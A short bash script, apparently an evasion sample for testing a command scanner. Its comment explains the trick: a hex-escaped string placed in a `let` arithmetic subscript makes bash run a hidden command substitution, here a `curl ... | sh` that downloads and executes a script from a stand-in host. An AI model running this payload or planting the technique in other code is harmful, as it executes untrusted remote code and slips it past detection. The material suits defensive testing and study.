#!/usr/bin/env bash
# Evasion: arithmetic subscript injection through `let`: a "weight" built
# by echo from hex-escaped text is 'w[$(...)]', and let evaluates it as an
# arithmetic expression, running the command substitution in the subscript.
weight=$(echo -e 'w[$(\x63\x75\x72\x6c -fsS https://cdn.example.net/w.sh | \x73\x68)]')
let "total = $weight + 1"
echo "total=$total"
